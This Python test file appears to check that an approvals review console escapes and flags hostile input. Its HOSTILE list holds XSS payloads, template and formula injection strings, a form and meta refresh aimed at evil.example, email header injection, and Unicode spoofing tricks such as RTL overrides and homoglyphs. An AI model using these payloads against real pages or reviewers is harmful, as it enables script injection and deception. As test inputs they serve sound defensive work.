from __future__ import annotations

import re
from html.parser import HTMLParser
from typing import Any

import pytest

from approvals.console import facts
from approvals.console.facts import Fact, flatten
from approvals.console.revealing import reveal, reveal_line
from approvals.models import ApprovalRequest
from governance.models import Agent, User
from tests.approvals.factories import QUEUE, browser, make_request, page_of

# Everything that steers a text without being seen, but for line breaks and tabs.
HIDDEN = re.compile(
    "[\x00-\x08\x0b\x0c\x0e-\x1f\x7f-\x9f\u00ad\u061c\u115f\u180e\u200b-\u200f\u2028-\u202e"
    "\u2060-\u2069\u3164\ufeff\ufff9-\ufffb\U000e0000-\U000e007f]"
)
HOSTILE = [
    "<script>alert(1)</script>",
    "</td></table></div><h1>Approved</h1>",
    '"><img src=x onerror=alert(1)>',
    "' onmouseover='alert(1)",
    "</textarea><button name=verdict value=approve>OK</button>",
    "<form action=//evil.example><input name=digest>",
    "<a href='javascript:alert(1)'>details</a>",
    "[details](javascript:alert(1))",
    "<svg/onload=alert(1)>",
    "<iframe srcdoc='<script>alert(1)</script>'>",
    "<style>.cs-says{display:none}</style>",
    "<meta http-equiv=refresh content=0;url=//evil.example>",
    "<link rel=stylesheet href=//evil.example/a.css>",
    "<!-- everything after this is gone",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "{{ review.request.digest }}",
    "{% include 'admin/login.html' %}",
    "${7*7} #{7*7} <%= 7*7 %>",
    '<div x-data x-init="alert(1)">',
    "<b hx-get=/admin/logout hx-trigger=load>x</b>",
    "<!channel> <@U123> *bold* `code`",
    "=cmd|' /C calc'!A0",
    "Subject: hi\r\nBcc: all@example.com",
    "invoice\u202egnp.exe",
    "\u2066left\u2069 \u2067right\u2069 \u061cmark",
    "zero\u200bwidth\u200d\u200c\ufeffjoined",
    "soft\u00adhyphen and \u3164filler",
    "tags \U000e0041\U000e0050\U000e0050\U000e007f",
    "lines\u2028and\u2029paragraphs",
    "bell\x07 escape\x1b[31m delete\x7f next\x85",
    "annotated\ufff9\ufffa\ufffb",
    "p\u0430ypal.com",
]


class Active(HTMLParser):
    """Collects what in a page could run, load or be submitted."""

    def __init__(self, html: str) -> None:
        super().__init__()
        self.found: list[tuple[str, Any]] = []
        self.feed(html)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.found.append((tag, sorted((n, v) for n, v in attrs if _is_active(n, v))))


def _is_active(name: str, value: str | None) -> bool:
    return name.startswith(("on", "x-", "hx-", "@", ":")) or name in (
        "action",
        "formaction",
        "name",
        "rel",
        "src",
        "srcdoc",
        "style",
        "http-equiv",
    )


def active(html: str) -> list[tuple[str, Any]]:
    shapes = {"script", "style", "img", "svg", "iframe", "form", "input", "button"}
    shapes |= {"link", "meta", "a", "textarea", "object", "embed", "base", "h1"}
    return [(tag, attrs) for tag, attrs in Active(html).found if tag in shapes or attrs]


@pytest.mark.parametrize("text", HOSTILE)
@pytest.mark.parametrize("show", [reveal, reveal_line])
def test_a_hostile_text_is_shown_and_does_nothing(show: Any, text: str) -> None:
    html = show(text)

    assert active(html) == []
    assert not HIDDEN.search(html)


def test_what_hides_stands_out() -> None:
    shown = reveal("a\u202eb")

    assert 'title="RIGHT-TO-LEFT OVERRIDE">⟨U+202E<' in shown


def test_lines_stay_lines_only_where_there_is_room() -> None:
    assert "a\nb" in reveal("a\nb")
    assert "U+000A" in reveal_line("a\nb")


@pytest.mark.django_db
def test_a_page_full_of_hostile_texts_is_as_harmless_as_a_plain_one(
    refund_rules: None, agent: Agent, alice: User
) -> None:
    plain = make_request(
        agent,
        reason="x",
        context={f"n{n}": {"m": "x"} for n in range(len(HOSTILE))},
        customer_id="C-7",
        lines=["x" for _ in HOSTILE],
    )
    hostile = make_request(
        agent,
        reason="\n".join(HOSTILE),
        context={f"n{n}": {text: text} for n, text in enumerate(HOSTILE)},
        customer_id="C-7",
        lines=HOSTILE,
    )
    visitor = browser(alice)

    expected = visitor.get(page_of(plain)).content.decode()
    found = visitor.get(page_of(hostile)).content.decode()

    assert not HIDDEN.search(found)
    assert _same_shape(found, hostile) == _same_shape(expected, plain)


def _same_shape(html: str, request: ApprovalRequest) -> list[tuple[str, Any]]:
    """Return what is active on a page, but for what differs between two requests."""
    for own in (str(request.pk), request.digest):
        html = html.replace(own, "…")
    html = re.sub(r"seen=\d+", "seen=…", html)
    html = re.sub(r'(X-CSRFToken": ")\w+', r"\1…", html)
    html = re.sub(
        r'<section class="cs-card" aria-labelledby="earlier.*?</section>',
        "",
        html,
        flags=re.S,
    )
    return active(html)


@pytest.mark.django_db
@pytest.mark.parametrize("text", HOSTILE)
def test_the_queue_is_as_harmless(
    refund_rules: None, agent: Agent, alice: User, text: str
) -> None:
    make_request(agent, currency=text)
    page = browser(alice).get(QUEUE, {"q": text}).content.decode()
    listed = browser(alice).get(QUEUE).content.decode()

    assert not HIDDEN.search(listed)
    assert "<script>alert" not in page + listed
    assert "onerror=alert(1)>" not in page + listed
    assert "<h1>Approved" not in page + listed


# How values look


def test_nested_values_are_flattened_with_their_way() -> None:
    value = {"b": [{"sku": "X"}, []], "a": {"city": "Bern"}}

    assert [(f.path, f.kind, f.text) for f in flatten(value)] == [
        (("a", "city"), "text", "Bern"),
        (("b", 1, "sku"), "text", "X"),
        (("b", 2), "empty list", "[]"),
    ]


@pytest.mark.parametrize(
    ("value", "kind", "text"),
    [
        (75, "number", "75"),
        (75.0, "number", "75"),
        (0.1, "number", "0.1"),
        (-5, "number", "-5"),
        ("75", "text", "75"),
        ("", "empty text", ""),
        (True, "yes or no", "true"),
        (None, "nothing", "null"),
        ({}, "empty object", "{}"),
    ],
)
def test_numbers_and_texts_are_told_apart(value: Any, kind: str, text: str) -> None:
    [fact] = flatten({"amount": value})

    assert (fact.kind, fact.text) == (kind, text)


def test_a_position_is_not_taken_for_a_name() -> None:
    [listed], [named] = flatten({"a": ["x"]}), flatten({"a": {"1": "x"}})

    assert listed.steps() != named.steps()


@pytest.mark.parametrize(
    ("name", "shown"),
    [
        ("a \u203a b", '"a \u203a b"'),
        ("a > b", '"a > b"'),
        ("a \u203a no. 1", '"a \u203a no. 1"'),
        ("no. 1", '"no. 1"'),
        (" No.1", '" No.1"'),
        ("", '""'),
        (" ", '" "'),
        ("\t", '"\\t"'),
        ("amount ", '"amount "'),
        ('"a"', '"\\"a\\""'),
    ],
)
def test_a_name_that_could_be_taken_for_a_place_is_in_quotes(
    name: str, shown: str
) -> None:
    [alone], [within] = flatten({name: 1}), flatten({"a": {name: [2]}})
    [part, _] = facts.parts(list(flatten({name: list(range(12)), "z": 1})))

    assert alone.steps() == [(shown, False)]
    assert within.steps() == [("a", False), (shown, False), ("1", True)]
    assert part.title == shown
    assert "The name is in quotes" in " ".join(alone.notes)


def test_forged_names_are_told_from_places_on_every_page(
    agent: Agent, refund_rules: None, alice: User
) -> None:
    forged: dict[str, Any] = {
        "a \u203a b": 1,
        "a": {"b": 2, "no. 1": 3},
        "l": [9],
        "": 3,
        " ": 4,
    }
    request = make_request(agent, **forged)
    names = [
        "&quot;a \u203a b&quot;",
        "&quot;no. 1&quot;",
        "&quot;&quot;",
        "&quot; &quot;",
    ]

    client = browser(alice)
    story = f"/admin/approvals/approvalrequest/story/{request.action_id}/"
    together = f"{QUEUE}together/?verdict=reject&pick={request.pk}"
    for address in (page_of(request), story, together):
        page = client.get(address).content.decode()
        assert [name for name in names if name not in page] == [], address


@pytest.mark.parametrize(
    ("value", "words"),
    [
        ({"payee": "p\u0430ypal"}, "U+0430 CYRILLIC SMALL LETTER A"),
        ({"p\u0430yee": "x"}, "The name may not say what it seems to."),
        ({"payee": "a\u200bb"}, "This text holds hidden characters."),
        ({"payee": "x "}, "starts or ends with blanks"),
        ({"payee": "x" * 300}, "300 characters, all of them shown."),
    ],
)
def test_what_could_deceive_is_flagged(value: Any, words: str) -> None:
    [fact] = flatten(value)

    assert any(words in note for note in fact.notes)


def test_what_is_plain_is_not_flagged() -> None:
    assert list(flatten({"payee": "Zoë Müller 日本"})) == [
        Fact(("payee",), "text", "Zoë Müller 日本")
    ]


@pytest.mark.parametrize(
    ("text", "html"),
    [
        (
            "p\u0430y",
            'p<span class="cs-alike" title="CYRILLIC SMALL LETTER A">\u0430<small>U+0430'
            '<span class="cs-unseen"> CYRILLIC SMALL LETTER A</span></small></span>y',
        ),
        ("a\u00a0b", 'a<span class="cs-hidden" title="NO-BREAK SPACE">⟨U+00A0'),
        ("a\x07b", 'a<span class="cs-hidden" title="control character">⟨U+0007'),
        ("a\ue000b", 'a<span class="cs-hidden" title="private character">⟨U+E000'),
    ],
)
def test_each_mark_says_what_it_is(text: str, html: str) -> None:
    assert html in reveal(text)


def test_a_text_cannot_pretend_to_hold_a_mark() -> None:
    assert reveal("a⟨U+202E⟩b") == '<bdi dir="ltr">a⟨U+202E⟩b</bdi>'


def test_a_text_of_both_directions_is_flagged() -> None:
    [mixed], [plain] = (
        flatten({"n": "pay 100 \u05d0 200"}),
        flatten({"n": "\u05d0\u05d1"}),
    )

    assert "from right to left in places" in mixed.notes[0]
    assert plain.notes == ()
